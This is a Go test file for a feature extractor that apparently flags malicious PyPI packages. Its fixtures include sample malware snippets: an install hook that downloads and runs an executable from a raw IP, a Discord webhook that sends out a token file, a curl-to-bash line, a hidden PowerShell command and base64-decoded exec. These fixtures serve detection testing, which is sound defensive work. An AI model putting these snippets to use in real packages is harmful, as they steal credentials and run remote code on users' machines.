package featuresets

import (
	"strings"
	"testing"

	"pypimal/dataset"
)

// pkg builds a package in memory from a PKG-INFO text (may be empty) and
// path → content pairs, as the dataset readers would.
func pkg(t testing.TB, pkgInfo string, files ...string) *dataset.Package {
	t.Helper()
	if len(files)%2 != 0 {
		t.Fatal("pkg: files must be path, content pairs")
	}
	p := &dataset.Package{Row: dataset.Row{ID: "test-1"}, Format: "dir"}
	if pkgInfo != "" {
		m, err := dataset.ParseMetadata([]byte(pkgInfo))
		if err != nil {
			t.Fatalf("PKG-INFO: %v", err)
		}
		p.Meta, p.MetaPath = m, "PKG-INFO"
		files = append(files, "PKG-INFO", pkgInfo)
	}
	for i := 0; i < len(files); i += 2 {
		data := []byte(files[i+1])
		p.Files = append(p.Files, dataset.File{Path: files[i], Size: int64(len(data)),
			Kind: dataset.Classify(files[i], data), Data: data})
	}
	p.AssignRoles()
	return p
}

// extract returns the package's features by name, and its row.
func extract(t testing.TB, p *dataset.Package) (map[string]float64, *Row) {
	t.Helper()
	ex, err := NewExtractor()
	if err != nil {
		t.Fatal(err)
	}
	defer ex.Close()
	r, err := ex.Extract(p)
	if err != nil {
		t.Fatalf("Extract: %v", err)
	}
	out := map[string]float64{}
	for i, name := range Names() {
		out[name] = r.Values[i]
	}
	return out, r
}

// code extracts a package holding one Python file.
func code(t testing.TB, path, src string) map[string]float64 {
	t.Helper()
	v, _ := extract(t, pkg(t, "", path, src))
	return v
}

// want asserts feature values; names must exist in the catalogue.
func want(t *testing.T, got map[string]float64, exp map[string]float64) {
	t.Helper()
	for name, w := range exp {
		g, ok := got[name]
		if !ok {
			t.Fatalf("no feature %q", name)
		}
		if g != w {
			t.Errorf("%s = %v, want %v", name, g, w)
		}
	}
}

func TestMalwarePatterns(t *testing.T) {
	tests := []struct {
		name string
		path string
		src  string
		want map[string]float64
	}{
		{"exec of base64", "pkg/__init__.py", `import base64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
`, map[string]float64{"code_exec_decoded": 1, "code_api_exec": 1, "code_api_decode": 1, "install_exec_decoded": 0}},

		{"aliased exec of zlib", "m.py", `from zlib import decompress as d
import base64 as b
eval(compile(d(b.b64decode(blob)), "<x>", "exec"))
`, map[string]float64{"code_exec_decoded": 2, "code_api_exec": 2, "code_api_decode": 2}},

		{"cmdclass install override that downloads and runs", "setup.py", `from setuptools import setup
from setuptools.command.install import install
import urllib.request, subprocess, os, tempfile

class PostInstall(install):
    def run(self):
        path = os.path.join(tempfile.gettempdir(), "x.exe")
        urllib.request.urlretrieve("http://45.61.139.22/x.exe", path)
        subprocess.Popen([path], shell=True)
        install.run(self)

setup(name="evil", version="1.0", packages=["evil"], cmdclass={"install": PostInstall})
`, map[string]float64{"setup_cmdclass_hooks": 1, "setup_hook_classes": 1, "setup_api_network": 1, "setup_api_process": 1,
			"install_hook_runs": 1, "install_network": 1, "install_suspicious_hosts": 1,
			"code_api_network": 0, "code_api_process": 0, "code_urls": 0, "files_setup_incomplete": 0}},

		{"discord webhook", "steal.py", `import requests
WEBHOOK = "https://discord.com/api/webhooks/1234567890/AbCdEf"
requests.post(WEBHOOK, json={"content": open("token.txt").read()})
`, map[string]float64{"code_suspicious_endpoints": 1, "code_api_network": 1, "code_urls": 1}},

		{"powershell encoded command", "run.py", `import subprocess
subprocess.call("powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A", shell=True)
`, map[string]float64{"code_shell_payloads": 1, "code_api_process": 1}},

		{"curl piped to sh", "a.py", `import os
os.system("curl -s https://x.example/i.sh | bash")
`, map[string]float64{"code_shell_payloads": 1, "code_api_process": 1}},

		{"getattr on builtins", "b.py", `f = getattr(__builtins__, "ex" + "ec")
f("print(1)")
`, map[string]float64{"code_api_exec": 1}},

		{"import of os by __import__", "c.py", `__import__("os").system("id")
`, map[string]float64{"code_api_process": 1, "code_dynamic_imports": 1}},

		{"subprocess alias", "d.py", `import subprocess as sp
from os import system
sp.Popen(["sh"])
system("id")
`, map[string]float64{"code_api_process": 2}},

		{"zero-width characters in identifiers", "e.py", "imp\u200bort = 1\nx\u200d = imp\u200bort\n",
			map[string]float64{"code_invisible_chars": 3}},

		{"chr chain", "f.py", "exec(chr(105)+chr(109)+chr(112)+chr(111))\n",
			map[string]float64{"code_chr_calls": 4, "code_max_chr_chain": 4}},

		{"long base64 payload", "g.py", "P = '" + strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo5", 4) + "'\n",
			map[string]float64{"code_long_base64": 1}},

		{"raw IP and port literal", "h.py", "s.connect(('45.61.139.22', 4444))\nHOST = '45.61.139.22:4444'\n",
			map[string]float64{"code_ip_literals": 2, "code_api_network": 1}},

		{"pyarmor", "i.py", "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'...')\n",
			map[string]float64{"code_pyarmor": 4}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			want(t, code(t, tt.path, tt.src), tt.want)
		})
	}
}

// TestBenignLookAlikes are legitimate uses of the same APIs: they must not
// trip the features that single out malware.
func TestBenignLookAlikes(t *testing.T) {
	t.Run("test suite running subprocess", func(t *testing.T) {
		v := code(t, "tests/test_cli.py", `import subprocess, sys

def test_help():
    out = subprocess.run([sys.executable, "-m", "tool", "--help"], capture_output=True)
    assert out.returncode == 0
`)
		// Tests are not module code: they enter no family.
		want(t, v, map[string]float64{"code_api_process": 0, "code_py_files": 0, "setup_api_process": 0, "setup_calls": 0, "files_has_tests": 1})
	})
	t.Run("docs with URLs", func(t *testing.T) {
		v := code(t, "pkg/util.py", `"""Helpers. See https://docs.python.org/3/library/os.html and https://github.com/org/repo."""

def f():
    """Return the answer, as described at https://example.org/answer."""
    return 42
`)
		want(t, v, map[string]float64{"code_urls": 0, "code_ip_urls": 0, "code_suspicious_endpoints": 0, "code_functions": 1})
	})
	t.Run("shell mentions are not payloads", func(t *testing.T) {
		v := code(t, "build.py", `cmd = ["bash", "-c", "make"]
doc = "Install with: pip install tool, or curl the tarball and run setup"
ps = "PowerShell is supported"
`)
		want(t, v, map[string]float64{"code_shell_payloads": 0})
	})
	t.Run("exec of a plain string", func(t *testing.T) {
		v := code(t, "m.py", "exec('x = 1')\n")
		want(t, v, map[string]float64{"code_api_exec": 1, "code_exec_decoded": 0})
	})
	t.Run("loopback and version strings are not IPs", func(t *testing.T) {
		v := code(t, "m.py", "HOST = '127.0.0.1'\nV = '1.2.3.4'\nANY = '0.0.0.0:80'\nu = 'http://127.0.0.1:8000/'\n")
		// "1.2.3.4" is indistinguishable from an address; loopback and the
		// unspecified address are not counted.
		want(t, v, map[string]float64{"code_ip_literals": 1, "code_ip_urls": 0, "code_urls": 1})
	})
	t.Run("module code is not install code", func(t *testing.T) {
		v := code(t, "pkg/__init__.py", "import os\nos.system('ls')\n")
		want(t, v, map[string]float64{"code_api_process": 1, "setup_api_process": 0, "setup_calls": 0})
	})
}

func TestSetupCompleteness(t *testing.T) {
	tests := []struct {
		name, src string
		want      float64
	}{
		{"complete", "from setuptools import setup\nsetup(name='a', version='1', packages=['a'])\n", 0},
		{"kwargs splat", "from setuptools import setup\nsetup(**cfg)\n", 0},
		{"scm version", "from setuptools import setup\nsetup(name='a', use_scm_version=True, py_modules=['a'])\n", 0},
		{"no setup call", "import os\nos.system('curl http://x | sh')\n", 1},
		{"setup without packages", "from setuptools import setup\nsetup(name='a', version='1')\n", 1},
		{"setup without version", "from distutils.core import setup\nsetup(name='a', packages=['a'])\n", 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			want(t, code(t, "setup.py", tt.src), map[string]float64{"files_setup_incomplete": tt.want, "files_setup_py": 1})
		})
	}
	t.Run("no setup.py", func(t *testing.T) {
		want(t, code(t, "a.py", "x = 1\n"), map[string]float64{"files_setup_incomplete": 0, "files_setup_py": 0})
	})
}

func TestCodeCounters(t *testing.T) {
	v := code(t, "m.py", `import os, sys
from json import loads

class A(object):
    def f(self):
        return loads("{}")

def g():
    print "py2"
`)
	want(t, v, map[string]float64{"code_py_files": 1, "code_lines": 9, "code_functions": 2, "code_classes": 1,
		"code_imports": 3, "code_py2_statements": 1, "code_parse_errors": 0})
	broken := code(t, "m.py", "def f(:\n    return ((\n")
	if broken["code_parse_errors"] == 0 || broken["code_parse_error_ratio"] != 1 {
		t.Errorf("broken code: parse errors %v, ratio %v", broken["code_parse_errors"], broken["code_parse_error_ratio"])
	}
	long := code(t, "m.py", "x = '"+strings.Repeat("a", 600)+"'\n")
	want(t, long, map[string]float64{"code_long_lines": 1, "code_max_line_len": 606})
}

func TestMetadataFeatures(t *testing.T) {
	good := `Metadata-Version: 2.1
Name: requests-toolbelt
Version: 1.0.0
Summary: A utility belt for advanced users of python-requests
Home-page: https://github.com/requests/toolbelt
Author: Ian Cordasco
Author-email: graffatcolmingov@gmail.com
License: Apache 2.0
Project-URL: Source, https://github.com/requests/toolbelt
Classifier: License :: OSI Approved :: Apache Software License
Classifier: Programming Language :: Python :: 3
Requires-Dist: requests (<3.0.0,>=2.0.1)
Requires-Python: >=2.7

A long description
with https://toolbelt.readthedocs.io/ in it.
`
	v, _ := extract(t, pkg(t, good, "requests_toolbelt/__init__.py", "__version__ = '1.0.0'\n"))
	want(t, v, map[string]float64{
		"meta_present": 1, "meta_author_present": 1, "meta_author_email_valid": 1, "meta_any_email_valid": 1,
		"meta_email_disposable": 0, "meta_homepage_valid": 1, "meta_url_code_host": 1, "meta_project_urls": 1,
		"meta_license_present": 1, "meta_license_known": 1, "meta_classifiers": 2, "meta_requires": 1,
		"meta_requires_python": 1, "meta_version_zero": 0, "meta_version_major_high": 0, "meta_version_pep440": 1,
		"meta_name_len": 17, "meta_name_separators": 1, "meta_name_upper": 0, "meta_description_has_url": 1,
		"meta_summary_equals_name": 0, "files_license_mismatch": 0,
	})

	bad := `Metadata-Version: 2.1
Name: Reqeusts2
Version: 99.0.0
Summary: UNKNOWN
Home-page: http://192.168.1.5/
Author: UNKNOWN
Author-email: nobody@mailinator.com
License: UNKNOWN
`
	v, _ = extract(t, pkg(t, bad, "setup.py", "import os\nos.system('id')\n"))
	want(t, v, map[string]float64{
		"meta_present": 1, "meta_author_present": 1, "meta_email_disposable": 1, "meta_homepage_present": 1,
		"meta_homepage_valid": 0, "meta_license_present": 0, "meta_license_known": 0, "meta_summary_len": 0,
		"meta_summary_equals_name": 1, "meta_version_major_high": 1, "meta_name_digits": 1, "meta_name_upper": 1,
	})

	v, _ = extract(t, pkg(t, "", "a.py", "x = 1\n"))
	want(t, v, map[string]float64{"meta_present": 0, "meta_author_present": 0, "meta_name_len": 0, "meta_fields": 0})
}

func TestLicenseMismatch(t *testing.T) {
	meta := "Metadata-Version: 2.1\nName: x\nVersion: 1.0\nLicense: MIT\n"
	v, _ := extract(t, pkg(t, meta, "LICENSE", "GNU GENERAL PUBLIC LICENSE\nVersion 3, 29 June 2007\n"))
	want(t, v, map[string]float64{"files_license_mismatch": 1, "files_has_license": 1})
	v, _ = extract(t, pkg(t, meta, "LICENSE", "MIT License\n\nPermission is hereby granted, free of charge, to any person obtaining a copy\n"))
	want(t, v, map[string]float64{"files_license_mismatch": 0})
}

func TestFileFeatures(t *testing.T) {
	elf := "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 60)
	pe := "MZ\x90\x00" + strings.Repeat("\x00", 60)
	p := pkg(t, "",
		"README.md", "# x\n",
		"LICENSE", "MIT License\n",
		"x/__init__.py", "",
		"x/deep/er/mod.py", "y = 1\n",
		"x/bin/tool", elf,
		"x/bin/tool.exe", pe,
		"x/run.sh", "#!/bin/sh\necho hi\n",
		"x/data.zip", "PK\x03\x04rest",
		"x/logo.png", "\x89PNG\r\n\x1a\nrest",
		".hidden/secret.txt", "s\n",
		"tests/test_x.py", "def test(): pass\n",
		"setup.cfg", "[metadata]\n",
	)
	p.Files[5].Executable = true
	v, _ := extract(t, p)
	// Sizes and kinds count the 7 module files under x/; the rest is
	// README, LICENSE, a hidden file, a test and setup.cfg.
	want(t, v, map[string]float64{
		"files_total": 7, "files_max_depth": 3, "files_python": 2, "files_native": 2, "files_windows_exe": 1,
		"files_native_programs": 2, "files_extension_modules": 0,
		"files_script": 1, "files_archive": 1, "files_image": 1, "files_hidden": 1, "files_executable_bit": 1,
		"files_has_readme": 1, "files_has_license": 1, "files_has_tests": 1, "files_setup_cfg": 1,
		"files_setup_py": 0, "files_pyproject": 0, "files_python_ratio": 2.0 / 7,
	})
}

func TestTokens(t *testing.T) {
	_, r := extract(t, pkg(t, "", "m.py", `# Grab the Discord token
def getDiscordToken(user_name):
    return "webhook URL"
`))
	for tok, n := range map[string]int{"discord": 2, "token": 2, "get": 1, "user": 1, "name": 1, "grab": 1, "webhook": 1, "url": 1, "the": 1} {
		if r.Tokens[tok] != n {
			t.Errorf("token %q = %d, want %d (tokens %v)", tok, r.Tokens[tok], n, r.Tokens)
		}
	}
	if _, ok := r.Tokens["getdiscordtoken"]; ok {
		t.Error("camelCase identifier was not split")
	}
}

func TestTopTokens(t *testing.T) {
	counts := map[string]int{"a": 5, "b": 5, "c": 1, "d": 9, "e": 1}
	got := topTokens(counts, 3)
	if len(got) != 3 || got["d"] != 9 || got["a"] != 5 || got["b"] != 5 {
		t.Errorf("topTokens = %v", got)
	}
	if got := topTokens(counts, 10); len(got) != 5 {
		t.Errorf("topTokens kept %d of 5", len(got))
	}
	big := map[string]int{}
	for i := 0; i < 3*MaxDistinctTokens; i++ {
		big[strings.Repeat("x", i%7+2)+string(rune('a'+i%26))+string(rune('a'+i/26%26))+string(rune('a'+i/676))] = i % 11
	}
	if got := topTokens(big, MaxDistinctTokens); len(got) != MaxDistinctTokens {
		t.Errorf("kept %d, want %d", len(got), MaxDistinctTokens)
	}
}

func TestCatalogue(t *testing.T) {
	seen := map[string]bool{}
	families := map[Family]int{}
	for _, f := range Catalogue() {
		if seen[f.Name] {
			t.Errorf("duplicate %s", f.Name)
		}
		seen[f.Name] = true
		families[f.Family]++
		if f.Definition == "" || !strings.HasSuffix(f.Definition, ".") {
			t.Errorf("%s: definition %q should be one sentence", f.Name, f.Definition)
		}
		switch f.Type {
		case Count, Bool, Real:
		default:
			t.Errorf("%s: type %q", f.Name, f.Type)
		}
		wantLeaky := strings.HasPrefix(f.Name, "setup_") || strings.HasPrefix(f.Name, "files_setup") ||
			strings.HasPrefix(f.Name, "files_has_") || f.Name == "files_pyproject" || f.Name == "files_license_mismatch" ||
			f.Name == "files_extension_modules" || f.Name == "files_executable_bit" || f.Name == "files_hidden"
		if f.Family == Install && !wantLeaky && !strings.HasPrefix(f.Name, "install_") {
			t.Errorf("%s: a non-leaky install feature must be named install_*", f.Name)
		}
		if f.Leaky != wantLeaky {
			t.Errorf("%s: leaky = %v", f.Name, f.Leaky)
		}
	}
	for _, fam := range []Family{Metadata, Files, Code, Install} {
		if families[fam] < 10 {
			t.Errorf("family %s has only %d features", fam, families[fam])
		}
	}
}

// TestBoolFeaturesAreBinary runs every feature on a varied package and
// checks the declared type holds.
func TestBoolFeaturesAreBinary(t *testing.T) {
	v, _ := extract(t, pkg(t, "Metadata-Version: 2.1\nName: x\nVersion: 0.0.1\n",
		"setup.py", "from setuptools import setup\nsetup(name='x', cmdclass={'install': I})\n",
		"x/__init__.py", "import os\nos.system('id')\n"))
	for _, f := range Catalogue() {
		x := v[f.Name]
		switch {
		case f.Type == Bool && x != 0 && x != 1:
			t.Errorf("%s = %v, not 0/1", f.Name, x)
		case f.Type == Count && (x < 0 || x != float64(int64(x))):
			t.Errorf("%s = %v, not a count", f.Name, x)
		}
	}
}
